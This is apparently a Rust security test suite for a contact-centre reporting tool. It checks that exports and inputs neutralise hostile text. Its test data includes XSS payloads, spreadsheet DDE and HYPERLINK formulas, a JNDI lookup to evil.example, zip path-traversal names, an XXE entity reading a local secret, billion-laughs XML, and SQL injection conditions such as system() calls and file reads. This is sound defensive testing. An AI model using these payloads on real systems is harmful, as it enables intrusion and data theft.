//! Exports that mean harm: whatever stands in them is text, on every way out.

#![allow(
    clippy::format_push_string,
    reason = "a row of an export reads best as one format"
)]

use std::collections::BTreeSet;
use std::io::{Cursor, Write};
use std::path::Path;

use kefu::i18n::visible::is_hidden;
use serde_json::Value;

use crate::builder::{Centre, Ran, contents};

/// Texts that some reader would run, follow or obey.
const HOSTILE: [&str; 12] = [
    "<script>alert('pwn')</script>",
    "\"><img src=x onerror=alert('pwn')>",
    "</script><svg/onload=alert('pwn')>",
    "'-alert(1)-'",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example/\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u{1b}]0;pwn\u{7}\u{1b}[2Jpwn",
    "a\u{202e}cod.exe\u{202c}\u{2066}x",
    "${jndi:ldap://evil.example/a}{{7*7}}",
    "javascript:alert(1)//&lt;b&gt;&amp;",
];

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// A centre in which every text is the `at`-th of these; enough calls that every part of the report is there.
fn centre_of(texts: &[&str]) -> Centre {
    let text = |at: usize| quoted(texts[at % texts.len()]);
    let mut calls = "call_id,started_at,answered_at,ended_at,queue,line,customer,agent_id,outcome,problem_type,score,waybill,ended_by\n".to_owned();
    let mut chats =
        "chat_id,started_at,first_reply_at,ended_at,platform,queue,agent_id,outcome,problem_type\n"
            .to_owned();
    let mut tickets = "ticket_id,created_at,updated_at,channel,kind,problem_type,priority,status,customer,agent_id,department,outlet,courier,region,emotion,responsibility,demand,remedy,description,resolution\n".to_owned();
    let mut evaluations =
        "evaluation_id,item,evaluated_at,agent_id,evaluator,rubric,passed,critical\n".to_owned();
    let mut messages = "message_id,contact_ref,sent_at,sender,text\n".to_owned();
    let mut surveys = "survey_id,contact_ref,sent_at,answered_at,score,comment\n".to_owned();
    let mut agents = "agent_id,name,team,site,hired_on\n".to_owned();
    let mut parcels = "date,outlet,parcels\n".to_owned();
    for day in 1..=20 {
        for at in 0..24 {
            let n = day * 100 + at;
            let (time, t) = (format!("2026-03-{day:02} {:02}", 8 + at % 12), |k| {
                text(n + k)
            });
            calls += &format!(
                "c{n}{},{time}:00:00,{time}:00:20,{time}:04:00,{},{},{},{},answered,{},{},w{n},{}\n",
                "",
                t(0),
                t(1),
                t(2),
                t(3),
                t(4),
                1 + n % 5,
                t(5)
            );
            chats += &format!(
                "k{n},{time}:10:00,{time}:10:20,{time}:14:00,{},{},{},served,{}\n",
                t(6),
                t(7),
                t(3),
                t(4)
            );
            tickets += &format!(
                "t{n},{time}:20:00,{time}:50:00,{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}\n",
                t(0),
                ["complaint", "enquiry"][n % 2],
                t(4),
                t(2),
                ["resolved", "pending"][n % 2],
                t(3),
                t(3),
                t(4),
                t(5),
                t(6),
                t(7),
                t(8),
                t(9),
                t(10),
                t(11),
                t(0),
                t(1)
            );
            evaluations += &format!(
                "e{n},{},{time}:30:00,{},{},{},{},false\n",
                t(0),
                t(3),
                t(5),
                t(6),
                n % 3 > 0
            );
            messages += &format!(
                "m{n},k{n},{time}:11:00,{},{}\n",
                ["customer", "agent"][n % 2],
                t(8)
            );
            surveys += &format!(
                "s{n},c{n},{time}:40:00,{time}:41:00,{},{}\n",
                1 + n % 5,
                t(9)
            );
        }
        for at in 0..12 {
            parcels += &format!("2026-03-{day:02},{},{}\n", text(at), 1000 + at);
        }
    }
    for at in 0..12 {
        agents += &format!(
            "{},{},{},{},2020-01-01\n",
            text(at),
            text(at),
            text(at + 1),
            text(at + 2)
        );
    }
    // Rows that are refused, with the same texts in them.
    for at in 0..12 {
        calls += &format!(
            "bad{at},{},,,{},,,,{},,,,\n",
            text(at),
            text(at + 1),
            text(at + 2)
        );
    }
    let toml = |text: &str| toml::Value::String(text.to_owned()).to_string();
    let plain: Vec<&str> = texts
        .iter()
        .copied()
        .filter(|text| !text.contains(is_hidden))
        .collect();
    let name = |at: usize| toml(plain[at % plain.len()]);
    let config = format!(
        "[centre]\nname = {{ en = {}, zh = {} }}\n\n[[kpi]]\nid = \"own\"\nname = {{ en = {}, zh = {} }}\nabout = {{ en = {}, zh = {} }}\nfact = \"call_facts\"\nkind = \"mean\"\nof = \"talk_s\"\nunit = \"seconds\"\nbetter = \"lower\"\nsource = {}\n\n[[target]]\nkpi = \"aht\"\nat_most = 100\nsource = {}\n",
        name(0),
        name(1),
        name(2),
        name(0),
        name(1),
        name(2),
        name(0),
        name(1)
    );
    Centre::new()
        .file("calls.csv", calls)
        .file("chats.csv", chats)
        .file("tickets.csv", tickets)
        .file("evaluations.csv", evaluations)
        .file("messages.csv", messages)
        .file("surveys.csv", surveys)
        .file("agents.csv", agents)
        .file("parcels.csv", parcels)
        .config(&config)
}

/// Tags with the names of their attributes, in the order of a page. Reads HTML as a browser does as far as it
/// matters here: quoted and bare values, comments, and the raw text of scripts and styles.
fn tags(page: &str) -> Vec<(String, Vec<String>)> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = &comment[comment.find("-->").map_or(comment.len(), |end| end + 3)..];
            continue;
        }
        let name: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '!'))
            .flat_map(char::to_lowercase)
            .collect();
        if name.is_empty() {
            continue;
        }
        let mut chars = rest[name.len()..].char_indices().peekable();
        let (mut attributes, mut end) = (Vec::new(), rest.len());
        while let Some((at, c)) = chars.next() {
            match c {
                '>' => {
                    end = name.len() + at + 1;
                    break;
                }
                c if c.is_whitespace() || c == '/' => {}
                c => {
                    let mut attribute = c.to_ascii_lowercase().to_string();
                    while let Some((_, c)) =
                        chars.next_if(|(_, c)| !c.is_whitespace() && !matches!(c, '=' | '>' | '/'))
                    {
                        attribute.push(c.to_ascii_lowercase());
                    }
                    attributes.push(attribute);
                    if chars.next_if(|(_, c)| *c == '=').is_some() {
                        match chars.next_if(|(_, c)| matches!(c, '"' | '\'')) {
                            Some((_, quote)) => {
                                while chars.next().is_some_and(|(_, c)| c != quote) {}
                            }
                            None => {
                                while chars
                                    .next_if(|(_, c)| !c.is_whitespace() && *c != '>')
                                    .is_some()
                                {}
                            }
                        }
                    }
                }
            }
        }
        rest = &rest[end..];
        if name == "script" || name == "style" {
            let close = format!("</{name}");
            rest = &rest[rest.find(&close).unwrap_or(rest.len())..];
        }
        found.push((name, attributes));
    }
    found
}

/// What a page is made of: tags with attributes, without how often.
fn elements(page: &str) -> BTreeSet<(String, String)> {
    let mut all = BTreeSet::new();
    for (tag, attributes) in tags(page) {
        all.insert((tag.clone(), String::new()));
        all.extend(
            attributes
                .into_iter()
                .map(|attribute| (tag.clone(), attribute)),
        );
    }
    all
}

#[test]
fn the_tags_of_a_page_are_read_as_a_browser_does() {
    let page = r#"<!DOCTYPE html><p class="a > b" id=x>1 < 2</p><!-- <b> --><script>"<i>"</script><img src='x' ONERROR=y>"#;
    let tags = tags(page);
    let names: Vec<&str> = tags.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["!doctype", "p", "/p", "script", "/script", "img"]);
    assert_eq!(tags[1].1, ["class", "id"]);
    assert_eq!(tags[5].1, ["src", "onerror"]);
}

/// Every output that people or programs read.
fn outputs(centre: &Centre) -> Vec<(String, Ran)> {
    let mut all = Vec::new();
    for command in [
        "kpi --by queue",
        "kpi --by queue --format csv",
        "kpi --by agent_id --format json",
        "kpi --kpi contacts --by problem_type,outlet",
        "kpi --kpi own",
        "drill answer_rate",
        "drill complaints --format csv",
        "drill complaints --format json",
        "explain own",
        "problems",
        "problems --by outlet --format csv",
        "coaching",
        "coaching --format csv",
        "compare answer_rate --from 2026-W10 --to 2026-W11 --by queue",
        "compare contacts --from 2026-W10 --to 2026-W11 --by agent_id --format csv",
        "sla",
        "sla late --format csv",
        "check in",
        "store log",
        "store verify",
        "run in",
        "run in --json",
    ] {
        let args: Vec<&str> = command.split(' ').collect();
        let ran = centre.kefu(&args);
        assert!(ran.code == 0, "{command}: {}", ran.err);
        all.push((command.to_owned(), ran));
    }
    all
}

#[test]
fn a_centre_of_hostile_texts_is_reported_like_any_other() {
    let hostile = centre_of(&HOSTILE);
    let harmless = centre_of(&["催派", "破损", "虚假签收", "地址不详"]);
    hostile.run(&["-q"]);
    harmless.run(&["-q"]);
    let reports = contents(&hostile.path("reports"));
    let mut pages = 0;
    for (path, bytes) in &reports {
        let kind = path
            .extension()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        if !["html", "json", "svg", "md", "eml", "csv"].contains(&kind.as_str()) {
            continue;
        }
        let text = std::str::from_utf8(bytes).unwrap();
        assert!(
            !text.contains(is_hidden),
            "{} has hidden characters",
            path.display()
        );
        if kind == "json" {
            let value: Value = serde_json::from_str(text).unwrap();
            let name = value["centre"].as_str().unwrap();
            assert!(HOSTILE.contains(&name), "{name}");
        }
        if kind == "html" {
            pages += 1;
            let other = std::fs::read_to_string(harmless.path("reports").join(path)).unwrap();
            let strange: Vec<_> = elements(text)
                .difference(&elements(&other))
                .cloned()
                .collect();
            assert_eq!(strange, [], "{}", path.display());
            assert!(
                text.contains("&lt;script&gt;") || text.contains("&lt;img"),
                "the texts are there, as texts"
            );
            let scripts = |page: &str| {
                tags(page)
                    .iter()
                    .filter(|(name, _)| name == "script")
                    .count()
            };
            assert_eq!(scripts(text), scripts(&other));
            for (name, attributes) in tags(text) {
                assert!(
                    !attributes.iter().any(|a| a.starts_with("on")),
                    "{name} {attributes:?}"
                );
            }
            assert!(!text.contains("href=\"javascript:"));
        }
    }
    assert_eq!(pages, 8);
    for (command, ran) in outputs(&hostile) {
        let seen = format!("{}{}", ran.out, ran.err);
        assert!(
            !seen.contains(is_hidden),
            "{command}: {:?}",
            seen.find(is_hidden)
        );
        if command.ends_with("json") {
            serde_json::from_str::<Value>(&ran.out).unwrap();
        }
        if command.ends_with("csv") {
            no_formula(&command, &ran.out);
        }
    }
}

/// No cell of a CSV is one that a spreadsheet runs.
fn no_formula(what: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut armed = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            let number = cell.parse::<f64>().is_ok();
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: {cell:?}"
            );
            armed += usize::from(cell.starts_with("'="));
        }
    }
    assert!(armed > 0 || !text.contains("cmd|"), "{what}");
}

/// The workbook for the people who made the export holds text and nothing else.
#[test]
fn the_quarantine_workbook_runs_nothing() {
    let centre = centre_of(&HOSTILE);
    centre.run(&["-q"]);
    let mut seen = 0;
    for (path, bytes) in contents(&centre.path("store/_quarantine")) {
        if path.extension().is_none_or(|end| end != "xlsx") {
            continue;
        }
        let mut zip = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
        for at in 0..zip.len() {
            let mut entry = zip.by_index(at).unwrap();
            let name = entry.name().unwrap().into_owned();
            assert!(
                !name.contains("externalLink") && !name.contains("vba"),
                "{name}"
            );
            let mut text = String::new();
            std::io::Read::read_to_string(&mut entry, &mut text).unwrap();
            assert!(
                !text.contains("<f>") && !text.contains("<f "),
                "{name} has a formula"
            );
            assert!(!text.contains("<hyperlink"), "{name} has a link");
            assert!(!text.contains(|c| is_hidden(c) && c != '\r'), "{name}");
            seen += usize::from(text.contains("cmd|"));
        }
    }
    assert!(seen > 0, "the texts are there, as texts");
}

/// Names of files and folders are shown to people too.
#[cfg(unix)]
#[test]
fn names_of_files_are_texts() {
    let call = |n: usize| {
        format!(
            "call_id,started_at,outcome,wait_s\nx{n},2026-03-02 09:00:00,abandoned,3\nx,bad,,\n"
        )
    };
    let mut centre = Centre::small();
    for (at, text) in HOSTILE.iter().enumerate() {
        let name = text.replace('/', "∕");
        centre = centre.file(&format!("{name}{at}.csv"), call(at));
    }
    let plain = Centre::small().file("x.csv", call(1));
    plain.run(&["-q"]);
    for command in [
        &["run", "in"] as &[&str],
        &["check", "in"],
        &["run", "in", "--json"],
    ] {
        let ran = centre.kefu(command).ok();
        assert!(
            !format!("{}{}", ran.out, ran.err).contains(is_hidden),
            "{command:?}"
        );
        assert!(
            ran.out.contains("script>") && ran.out.contains("\\u001b"),
            "{}",
            ran.out
        );
    }
    let page = "reports/nightly_2026-03-03_all_r0001_en.html";
    let read = |centre: &Centre| std::fs::read_to_string(centre.path(page)).unwrap();
    let strange: Vec<_> = elements(&read(&centre))
        .difference(&elements(&read(&plain)))
        .cloned()
        .collect();
    assert_eq!(strange, []);
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        zip.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn names(folder: &Path) -> BTreeSet<std::path::PathBuf> {
    contents(folder).into_iter().map(|(path, _)| path).collect()
}

#[test]
fn nothing_leaves_an_archive_but_rows() {
    let call = |n: usize| {
        format!("call_id,started_at,outcome,wait_s\nz{n},2026-03-02 09:00:00,abandoned,30\n")
    };
    let inner = zip_of(&[("deep.csv", call(4).as_bytes())]);
    let archive = zip_of(&[
        (
            "../../../../../../../../tmp/kefu-evil.csv",
            call(1).as_bytes(),
        ),
        ("/etc/kefu-evil.csv", call(2).as_bytes()),
        ("..\\..\\kefu-evil.csv", call(3).as_bytes()),
        ("nested.zip", &inner),
    ]);
    let centre = Centre::small().file("calls.zip", archive);
    let ran = centre.run(&[]);
    assert_eq!(
        centre.figure("offered"),
        Some(7.0),
        "three members of calls.zip are read"
    );
    assert!(
        ran.out.contains("is an archive within an archive"),
        "{}",
        ran.out
    );
    assert!(!ran.out.contains("/../"), "{}", ran.out);
    for evil in ["/tmp/kefu-evil.csv", "/etc/kefu-evil.csv"] {
        assert!(!Path::new(evil).exists());
    }
    let outside: Vec<_> = names(&centre.path(""))
        .into_iter()
        .filter(|path| {
            !["in", "store", "reports"]
                .iter()
                .any(|known| path.starts_with(known))
        })
        .collect();
    assert_eq!(outside, [std::path::PathBuf::from("store.key")]);
}

#[test]
fn names_of_sources_and_settings_lead_nowhere() {
    let centre = Centre::small().config(
        "[source.\"../../evil\"]\ntable = \"calls\"\n[source.\"../../evil\".columns]\ncall_id = \"通话流水号\"\nstarted_at = \"呼叫时间\"\n",
    );
    centre.run(&["-q", "--source", "../../evil"]);
    let outside: Vec<_> = names(&centre.path(""))
        .into_iter()
        .filter(|path| {
            !["in", "store", "reports"]
                .iter()
                .any(|known| path.starts_with(known))
        })
        .map(|path| path.display().to_string())
        .collect();
    assert_eq!(outside, ["kefu.toml", "store.key"]);
    let centre = Centre::small().config("[centre]\nname = { en = \"a\\u202Eb\", zh = \"c\" }\n");
    centre.says(
        &["run", "in", "-q"],
        2,
        "error: kefu.toml:2:8: `name` in [centre] holds a control character or a mark of writing direction\n\nhint: it stands on every page: write it without",
    );
}

/// A workbook whose sheet is this XML.
fn workbook(sheet: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let types = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
    let root = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let book = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="calls" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>"#;
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file:///etc/passwd" TargetMode="External"/></Relationships>"#;
    let mut members: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", rels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    members.extend(more);
    zip_of(&members)
}

fn sheet(doctype: &str, queue: &str) -> String {
    let cell = |text: &str| format!("<c t=\"inlineStr\"><is><t>{text}</t></is></c>");
    let row = |cells: [&str; 5]| format!("<row>{}</row>", cells.map(cell).concat());
    format!(
        "<?xml version=\"1.0\"?>{doctype}<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{}{}{}</sheetData></worksheet>",
        row(["call_id", "started_at", "queue", "outcome", "wait_s"]),
        row(["x1", "2026-03-02 09:00:00", queue, "abandoned", "30"]),
        row(["x2", "2026-03-02 09:00:00", "plain", "abandoned", "30"])
    )
}

#[test]
fn entities_and_links_of_workbooks_are_not_followed() {
    let centre = Centre::small();
    let secret = centre.path("secret.txt");
    std::fs::write(&secret, "SECRET-4711").unwrap();
    let file = format!(
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://{}\">]>",
        secret.display()
    );
    let mut laughs = "<!DOCTYPE x [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..=30 {
        let below = level - 1;
        laughs += &format!("<!ENTITY l{level} \"&l{below};&l{below};&l{below};&l{below};\">");
    }
    laughs += "]>";
    let linked = "<c><f>[1]Sheet1!A1</f><v>7</v></c>";
    let centre = centre
        .file("entity.xlsx", workbook(&sheet(&file, "&e;"), &[]))
        .file("laughs.xlsx", workbook(&sheet(&laughs, "&l30;"), &[]))
        .file(
            "link.xlsx",
            workbook(
                &sheet("", "linked")
                    .replace("</row></sheetData>", &format!("{linked}</row></sheetData>")),
                &[("xl/externalLinks/externalLink1.xml", b"<externalLink/>")],
            ),
        );
    let ran = centre.run(&[]);
    assert!(!format!("{}{}", ran.out, ran.err).contains("panicked"));
    let seen = centre
        .kefu(&[
            "kpi", "--kpi", "offered", "--by", "queue", "--format", "csv",
        ])
        .ok()
        .out;
    assert!(seen.contains("linked"), "{seen}\n{}", ran.out);
    for (path, bytes) in contents(&centre.path("")) {
        let found = bytes.windows(11).any(|part| part == b"SECRET-4711");
        assert!(!found || path.ends_with("secret.txt"), "{}", path.display());
    }
    let folded = format!("{}{seen}", ran.out);
    assert!(
        !folded.contains("hahahaha") && !folded.contains("SECRET"),
        "{folded}"
    );
}

#[test]
fn absurd_files_are_refused_and_the_others_taken_in() {
    let deep = format!("{}1{}", "[".repeat(200_000), "]".repeat(200_000));
    let objects = "{\"a\":".repeat(100_000);
    let wide = format!(
        "call_id,started_at,outcome\n{},2026-03-02 09:00:00,abandoned\n",
        "x".repeat(8 << 20)
    );
    let quotes = format!("call_id,started_at,outcome\n\"{}\n", "x\n".repeat(20_000));
    let columns = format!("call_id,started_at,outcome{}\n", ",x".repeat(100_000));
    let nul = b"call_id,started_at,outcome\n\0\0\0,2026-03-02 09:00:00,abandoned\ny1,2026-03-02 09:00:00,abandoned\n";
    let centre = Centre::small()
        .config("[quality]\nmax_rejected = 1.0\n")
        .file("deep.json", deep)
        .file("objects.json", objects)
        .file("wide.csv", wide)
        .file("quotes.csv", quotes)
        .file("columns.csv", columns)
        .file("nul.csv", nul)
        .file("html.csv", format!("<table>{}", "<tr><td>".repeat(50_000)))
        .file(
            "xml.csv",
            format!("<?xml version=\"1.0\"?>{}", "<a>".repeat(50_000)),
        );
    let ran = centre.run(&[]);
    assert!(
        !ran.err.contains("panicked") && ran.err.len() < 100_000,
        "{}",
        &ran.err[..2000]
    );
    assert!(ran.out.contains("calls.csv"), "{}", ran.out);
    let out = centre.kefu(&["store", "verify"]).ok().out;
    assert!(out.trim_end().ends_with(": sound"), "{out}");
}

#[test]
fn a_condition_is_a_condition_and_nothing_else() {
    let centre = Centre::small();
    std::fs::write(centre.path("secret.txt"), "SECRET-4711").unwrap();
    centre.run(&["-q"]);
    let before = names(&centre.path(""));
    let deep = format!("{}queue = 'x'{}", "(".repeat(20_000), ")".repeat(20_000));
    let nots = format!("{} (queue = 'x')", "NOT ".repeat(20_000));
    let long = vec!["queue = 'x'"; 20_000].join(" OR ");
    for condition in [
        "queue = (SELECT content FROM read_text('secret.txt'))",
        "queue IN (SELECT queue FROM calls)",
        "EXISTS (SELECT 1)",
        "read_text('secret.txt') = ''",
        "read_csv('secret.txt') IS NOT NULL",
        "pg_read_file('secret.txt') = ''",
        "load_extension('x')",
        "system('touch pwned') = 0",
        "getenv('HOME') <> ''",
        "1 = 1; DROP TABLE calls",
        "1 = 1; COPY calls TO 'pwned'",
        "queue = 'x' UNION SELECT 1",
        "'secret.txt'",
        "queue LIKE regexp_replace(queue, '(a+)+$', '')",
        "queue = $1",
        "queue = :name",
        "queue = @@version",
        "x'00' = queue",
        "queue = 'x' -- \u{1b}[2J\u{202e}\n OR nothing",
        "",
        deep.as_str(),
        nots.as_str(),
    ] {
        let ran = centre.kefu(&["kpi", "--kpi", "offered", "--where", condition]);
        assert_eq!(ran.code, 2, "{:.80}: {}{}", condition, ran.out, ran.err);
        assert!(
            ran.err.starts_with("error: ")
                && !ran.err.contains("SECRET")
                && !ran.err.contains(is_hidden),
            "{:.80}: {:.300}",
            condition,
            ran.err
        );
    }
    // Long is not wrong; it must end, one way or the other.
    let ran = centre.kefu(&[
        "kpi",
        "--kpi",
        "offered",
        "--where",
        &long[..long.len().min(100_000) / 16 * 15],
    ]);
    assert!([0, 2].contains(&ran.code), "{:.300}", ran.err);
    assert_eq!(names(&centre.path("")), before);
}
